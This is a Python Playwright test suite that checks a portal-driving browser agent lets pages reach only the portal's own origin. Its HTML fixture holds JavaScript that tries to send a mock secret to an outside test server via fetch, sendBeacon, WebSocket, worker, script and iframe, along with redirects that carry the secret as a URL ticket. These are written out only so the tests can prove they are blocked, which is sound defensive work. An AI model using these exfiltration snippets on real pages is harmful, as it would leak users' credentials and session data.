"""The browser talks to the portal's origin and to nobody else, whatever the pages ask for."""

from collections.abc import Callable, Iterator, Mapping
from contextlib import AbstractContextManager, contextmanager, nullcontext
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext
from playwright.sync_api import Error as PlaywrightError
from pydantic import SecretStr

from ecqs_agent.driving.browser import portal_context
from ecqs_agent.events import Event, Events, Kind
from ecqs_agent.runs.run import open_run
from page_objects.addresses import Addresses
from page_objects.errors import (
    CertificateError,
    ForeignAddressError,
    LoginPlaceError,
    PlainHttpError,
    PortalError,
)
from page_objects.pages.portal_home import HOME_PATH, PortalHome
from page_objects.patience import Patience
from tests.sites import Answer, Site, site

pytestmark = pytest.mark.browser

SECRET = "ST-42-secret"
FORM = """<form method=post action=/leave><input name=word value="ST-42-secret"></form>
<script>window.asked = (kind) => ({
  script: (url) => new Promise((done) => {
    const one = document.createElement("script");
    one.onload = () => done("came"); one.onerror = () => done("did not");
    one.src = url; document.body.append(one); }),
  frame: (url) => new Promise((done) => {
    const one = document.createElement("iframe");
    one.onload = () => done("shown"); one.src = url; document.body.append(one); }),
  call: (url) => fetch(url, { method: "POST", mode: "no-cors", body: "word=ST-42-secret" })
    .then(() => "came", () => "did not"),
  beacon: (url) => { navigator.sendBeacon(url, "word=ST-42-secret"); return "sent"; },
  socket: (url) => new Promise((done) => {
    const one = new WebSocket(url.replace("http", "ws"));
    one.onopen = () => done("came"); one.onerror = () => done("did not"); }),
  worker: (url) => new Promise((done) => {
    const text = `fetch("${url}", {mode: "no-cors"}).then(
      () => postMessage("came"), () => postMessage("did not"))`;
    const one = new Worker(URL.createObjectURL(new Blob([text])));
    one.onmessage = (event) => done(event.data); }),
})[kind];</script>"""
HOME = Answer(FORM, headers={"Set-Cookie": "JSESSIONID=ST-42-secret"})
Blocked = Mapping[str, int]


@pytest.fixture
def home() -> Iterator[Site]:
    with site({"/": HOME}) as served:
        yield served


@pytest.fixture
def outsider() -> Iterator[Site]:
    with site({"/file.js": Answer("window.strange = 1", "text/javascript")}) as served:
        yield served


Within = Callable[..., AbstractContextManager[BrowserContext]]


@pytest.fixture
def blocked() -> dict[str, int]:
    return {}


@pytest.fixture
def within(browser: Browser, blocked: dict[str, int]) -> Within:
    """Return a function that opens a context for these addresses as a run does."""

    @contextmanager
    def opened(portal: str, **more: Any) -> Iterator[BrowserContext]:
        with portal_context(browser, Addresses.of(portal, **more), told=blocked.update) as context:
            yield context

    return opened


KINDS = ["script", "call", "socket", "worker", "frame", "beacon"]


@pytest.mark.parametrize("kind", KINDS)
def test_nothing_a_page_asks_for_reaches_an_outsider(
    home: Site, outsider: Site, within: Within, blocked: Blocked, kind: str
) -> None:
    with within(home.url) as context:
        page = context.new_page()
        page.goto(home.url)
        with page.expect_event("requestfailed") if kind == "beacon" else nullcontext():
            answer = page.evaluate(
                "([kind, url]) => asked(kind)(url)", [kind, f"{outsider.url}/file.js"]
            )
    assert answer != "came"
    assert outsider.asked == []
    assert sum(blocked.values()) >= 1
    assert list(blocked) == [outsider.url] or kind == "socket"


@pytest.mark.parametrize("status", [302, 307])
@pytest.mark.parametrize("kind", ["script", "call"])
def test_a_redirect_carries_nothing_to_an_outsider(
    home: Site, outsider: Site, within: Within, kind: str, status: int
) -> None:
    home.lead("/leave", f"{outsider.url}/file.js?ticket={SECRET}", status=status)
    with within(home.url) as context:
        page = context.new_page()
        page.goto(home.url)
        assert page.evaluate("kind => asked(kind)('/leave')", kind) == "did not"
    assert home.asked[-1].path == "/leave"
    assert outsider.asked == []


def test_a_form_that_is_redirected_is_not_sent_on_and_stops_the_run(
    home: Site, outsider: Site, within: Within, patience: Patience, blocked: Blocked
) -> None:
    home.lead("/leave", f"{outsider.url}/?ticket={SECRET}", status=307)
    with within(home.url) as context:
        page = context.new_page()
        page.goto(home.url)
        screen = PortalHome(page, base_url=home.url, patience=patience)
        page.evaluate("document.forms[0].submit()")
        with pytest.raises(ForeignAddressError) as stopped:
            screen.wait_ready()
    assert home.asked[-1].body == f"word={SECRET}"
    assert outsider.asked == []
    assert (stopped.value.facts["seen"], stopped.value.facts["expected"]) == (
        outsider.url,
        home.url,
    )
    assert SECRET not in str(stopped.value)
    assert blocked == {outsider.url: 1}


def test_an_address_that_redirects_elsewhere_stops_the_run(
    home: Site, outsider: Site, within: Within, patience: Patience
) -> None:
    home.lead(HOME_PATH, f"{outsider.url}{HOME_PATH}")
    with within(home.url) as context, pytest.raises(ForeignAddressError):
        PortalHome(context.new_page(), base_url=home.url, patience=patience).open()
    assert outsider.asked == []


def test_a_tab_opened_elsewhere_stops_the_run(
    home: Site, outsider: Site, within: Within, patience: Patience
) -> None:
    with within(home.url) as context:
        page = context.new_page()
        page.goto(home.url)
        with context.expect_event("requestfailed"):
            page.evaluate("url => { window.open(url); }", outsider.url)
        with pytest.raises(ForeignAddressError):
            PortalHome(page, base_url=home.url, patience=patience).wait_ready()
    assert outsider.asked == []


def test_where_no_gate_stands_a_tab_elsewhere_is_seen_all_the_same(
    home: Site, outsider: Site, context: BrowserContext, patience: Patience
) -> None:
    home.lead(HOME_PATH, f"{outsider.url}{HOME_PATH}")
    with pytest.raises(ForeignAddressError):
        PortalHome(context.new_page(), base_url=home.url, patience=patience).open()


def test_the_own_host_on_another_port_is_an_outsider(
    home: Site, outsider: Site, within: Within
) -> None:
    with within(home.url) as context, pytest.raises(PlaywrightError):
        context.new_page().goto(outsider.url)
    assert outsider.asked == []


def test_plain_http_where_https_is_set_stops_the_run(
    home: Site, within: Within, patience: Patience
) -> None:
    portal = home.url.replace("http:", "https:")
    with within(portal) as context:
        page = context.new_page()
        with pytest.raises(PlaywrightError):
            page.goto(home.url)
        with pytest.raises(PlainHttpError) as stopped:
            PortalHome(page, base_url=portal, patience=patience).wait_ready()
    assert stopped.value.facts == {"seen": home.url, "expected": portal}
    assert home.asked == []


def test_a_certificate_nobody_vouches_for_stops_the_run(
    within: Within, patience: Patience, tmp_path: Path
) -> None:
    with site(secure=tmp_path) as served, within(served.url) as context:
        with pytest.raises(CertificateError) as stopped:
            PortalHome(context.new_page(), base_url=served.url, patience=patience).open()
        assert served.asked == []
    assert stopped.value.facts["address"] == served.url


def test_an_origin_that_is_allowed_is_reached(
    home: Site, outsider: Site, within: Within, blocked: Blocked
) -> None:
    with within(home.url, more=(outsider.url,)) as context:
        page = context.new_page()
        page.goto(home.url)
        page.evaluate("url => asked('script')(url)", f"{outsider.url}/file.js")
        assert page.evaluate("window.strange") == 1
    assert blocked == {}


def test_the_portals_own_requests_pass_by_the_gate_and_are_cached(
    home: Site, within: Within, blocked: Blocked
) -> None:
    kept = {"Cache-Control": "max-age=600"}
    home.pages["/own.js"] = Answer("window.own = 1", "text/javascript", headers=kept)
    home.pages["/"] = Answer("<script src=/own.js></script>")
    with within(home.url) as context:
        page = context.new_page()
        for _ in range(3):
            page.goto(home.url)
            assert page.evaluate("window.own") == 1
        page.evaluate("navigator.serviceWorker.register('/worker.js')")
        assert context.service_workers == []
    paths = [asked.path for asked in home.asked]
    assert (paths.count("/"), paths.count("/own.js")) == (3, 1)  # intercepted ones are not cached
    assert "/worker.js" not in paths
    assert blocked == {}


def test_a_websocket_of_the_portal_passes_by_the_gate(
    home: Site, within: Within, blocked: Blocked
) -> None:
    with within(home.url) as context:
        page = context.new_page()
        page.goto(home.url)
        page.evaluate("url => asked('socket')(url)", f"{home.url}/talk")
    assert home.asked[-1].path == "/talk"
    assert blocked == {}


def test_a_password_is_typed_at_the_login_alone(
    portal: Any, within: Within, patience: Patience
) -> None:
    mock, typed = portal(), "input:not([type=hidden]):not([type=checkbox])"
    with within(mock.url, login="https://login.example.cn") as context:
        login = PortalHome(context.new_page(), base_url=mock.url, patience=patience).open().log_in()
        with pytest.raises(LoginPlaceError) as stopped:
            login.fill("demo", SecretStr(SECRET), "1234")
        boxes = login.page.locator(typed).evaluate_all("all => all.map(one => one.value).join('')")
    assert boxes == ""
    assert stopped.value.facts == {"seen": mock.url, "expected": "https://login.example.cn"}


@pytest.fixture
def in_this_browser(browser: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    """Let a run take the test's browser instead of starting one."""
    monkeypatch.setattr(
        "ecqs_agent.driving.browsing.launched", lambda *_, **__: nullcontext(browser)
    )


@pytest.mark.usefixtures("in_this_browser")
def test_a_run_tells_once_whom_it_did_not_let_the_pages_ask(
    portal: Any, outsider: Site, settings_for: Any, heard: list[Event], events: Events
) -> None:
    with open_run(settings_for(portal()), "demo", log_in=lambda _: None, events=events) as run:
        page = run.session.home().page
        for _ in range(2):
            page.evaluate("url => fetch(url).catch(() => 0)", f"{outsider.url}/?ticket={SECRET}")
    (told,) = [event for event in heard if event.kind is Kind.BLOCKED]
    assert told.facts == {"count": 2, "origins": outsider.url}


def test_a_stopped_run_stays_stopped(home: Site, outsider: Site, within: Within) -> None:
    errors: list[PortalError] = []
    with within(home.url) as context:
        page = context.new_page()
        with pytest.raises(PlaywrightError):
            page.goto(outsider.url)
        for _ in range(2):
            with pytest.raises(ForeignAddressError) as stopped:
                PortalHome(page, base_url=home.url, patience=Patience(0.05)).wait_ready()
            errors.append(stopped.value)
    assert errors[0] is errors[1]
